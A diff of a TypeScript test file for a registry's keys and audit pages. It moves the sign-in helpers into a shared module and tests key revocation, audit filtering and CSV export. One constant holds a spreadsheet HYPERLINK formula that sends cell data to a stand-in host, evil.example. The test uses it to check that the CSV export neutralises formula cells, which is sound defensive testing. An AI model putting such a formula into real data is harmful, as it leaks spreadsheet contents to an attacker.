@@ -16,41 +16,11 @@ import { activatePolicy, attestSeed, attest, createPrincipal, editablePolicy, en
 import { rawSql } from '../support/raw-sql.js';
 import { BACKENDS, startTestRegistry, type TestRegistry } from '../support/registry.js';
 import { addKey, api, makeKey, VULNS } from '../support/trust-fixtures.js';
+import { page, signIn } from '../support/ui-session.js';
 
 type Json = Record<string, unknown>;
 
-interface Reply {
-  readonly status: number;
-  readonly headers: Headers;
-  readonly text: string;
-}
-
 const FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")';
-
-async function page(reg: TestRegistry, path: string, init: { cookie?: string; form?: Record<string, string> } = {}): Promise<Reply> {
-  const response = await fetch(`${reg.url}${path}`, {
-    method: init.form === undefined ? 'GET' : 'POST',
-    redirect: 'manual',
-    headers: {
-      ...(init.cookie === undefined ? {} : { cookie: init.cookie }),
-      ...(init.form === undefined ? {} : { 'content-type': 'application/x-www-form-urlencoded', origin: reg.url, 'sec-fetch-site': 'same-origin' }),
-    },
-    ...(init.form === undefined ? {} : { body: new URLSearchParams(init.form).toString() }),
-  });
-  return { status: response.status, headers: response.headers, text: await response.text() };
-}
-
-/** Signs in with `token`; returns the `Cookie` header value, the session id and the CSRF token. */
-async function signIn(reg: TestRegistry, token: string): Promise<{ cookie: string; sessionId: string; csrf: string }> {
-  const reply = await page(reg, '/sign-in', { form: { token, next: '/keys' } });
-  expect(reply.status, reply.text).toBe(303);
-  const cookie = (reply.headers.get('set-cookie') ?? '').split(';')[0] ?? '';
-  const keys = await page(reg, '/keys', { cookie });
-  expect(keys.status, keys.text).toBe(200);
-  const csrf = /name="csrf" value="([^"]+)"/.exec(keys.text)?.[1];
-  if (csrf === undefined) throw new Error('no CSRF field on the keys page');
-  return { cookie, sessionId: cookie.slice(cookie.indexOf('=') + 1).split('.')[0] ?? '', csrf };
-}
 
 /** The `model:environment` rows of the revoke confirmation's preview table. */
 function previewed(text: string): string[] {
@@ -106,7 +76,7 @@ describe.each(BACKENDS)('keys and audit pages on %s', (backend) => {
   });
 
   it('lists every key with its id, scope and status, and revoke links only for a key admin', async () => {
-    const admin = await signIn(reg, reg.token);
+    const admin = await signIn(reg, reg.token, '/keys');
     const keys = await page(reg, '/keys', { cookie: admin.cookie });
     for (const key of [seed.keys.scanner, seed.keys.training, scanner2]) {
       expect(keys.text).toContain(`sha256:${key.keyId}`);
@@ -115,7 +85,7 @@ describe.each(BACKENDS)('keys and audit pages on %s', (backend) => {
     expect(keys.text).toContain('<code>https://in-toto.io/attestation/vulns/v0.2</code>');
     expect(keys.text.match(/aria-label="Active"/g)?.length).toBe(5);
 
-    const viewer = await signIn(reg, viewerToken);
+    const viewer = await signIn(reg, viewerToken, '/keys');
     const seen = await page(reg, '/keys', { cookie: viewer.cookie });
     expect(seen.status).toBe(200);
     expect(seen.text).toContain(`sha256:${seed.keys.scanner.keyId}`);
@@ -129,7 +99,7 @@ describe.each(BACKENDS)('keys and audit pages on %s', (backend) => {
   });
 
   it('refuses a revocation from a sign-in older than ui.recentAuthMinutes, and says so on the form', async () => {
-    const admin = await signIn(reg, reg.token);
+    const admin = await signIn(reg, reg.token, '/keys');
     const aged = new Date(Date.now() - 60 * 60_000).toISOString();
     await rawSql(reg, 'UPDATE ui_sessions SET authenticated_at = ? WHERE id = ?', [aged, admin.sessionId]);
     const form = await page(reg, '/keys/security-scanner/revoke', { cookie: admin.cookie });
@@ -142,7 +112,7 @@ describe.each(BACKENDS)('keys and audit pages on %s', (backend) => {
   });
 
   it('previews the placements a revocation would quarantine, and revoking through the form quarantines exactly those', async () => {
-    const admin = await signIn(reg, reg.token);
+    const admin = await signIn(reg, reg.token, '/keys');
     const preview = await page(reg, `/keys/security-scanner/revoke?compromisedSince=${encodeURIComponent(compromisedSince)}`, { cookie: admin.cookie });
     expect(preview.status, preview.text).toBe(200);
     const expected = [`${alpha.model}:production`, `${alpha.model}:staging`, `${bravo.model}:staging`].sort();
@@ -185,7 +155,7 @@ describe.each(BACKENDS)('keys and audit pages on %s', (backend) => {
   it('shows the audit feed newest first, narrowed by type, actor, model and time, with cursor paging', async () => {
     // More than one page of events: a few more tokens for the viewer.
     for (let i = 0; i < 12; i++) expect((await api(reg, 'POST', '/api/v1/tokens', { principal: `viewer-${backend}` })).status).toBe(201);
-    const admin = await signIn(reg, reg.token);
+    const admin = await signIn(reg, reg.token, '/keys');
     const all = await page(reg, '/audit', { cookie: admin.cookie });
     expect(all.status).toBe(200);
     const rows = auditRows(all.text);
@@ -210,13 +180,13 @@ describe.each(BACKENDS)('keys and audit pages on %s', (backend) => {
     expect(untilStart).toEqual([]);
     expect((await page(reg, '/audit?type=no.such.type', { cookie: admin.cookie })).status).toBe(400);
 
-    const viewer = await signIn(reg, viewerToken);
+    const viewer = await signIn(reg, viewerToken, '/keys');
     expect((await page(reg, '/audit', { cookie: viewer.cookie })).status).toBe(403);
     expect((await page(reg, '/audit/export?format=csv', { cookie: viewer.cookie })).status).toBe(403);
   });
 
   it('exports the filtered feed as CSV with formula-looking cells neutralised, and as JSONL', async () => {
-    const admin = await signIn(reg, reg.token);
+    const admin = await signIn(reg, reg.token, '/keys');
     const csv = await fetch(`${reg.url}/audit/export?format=csv&type=key.revoked`, { headers: { cookie: admin.cookie } });
     expect(csv.status).toBe(200);
     expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
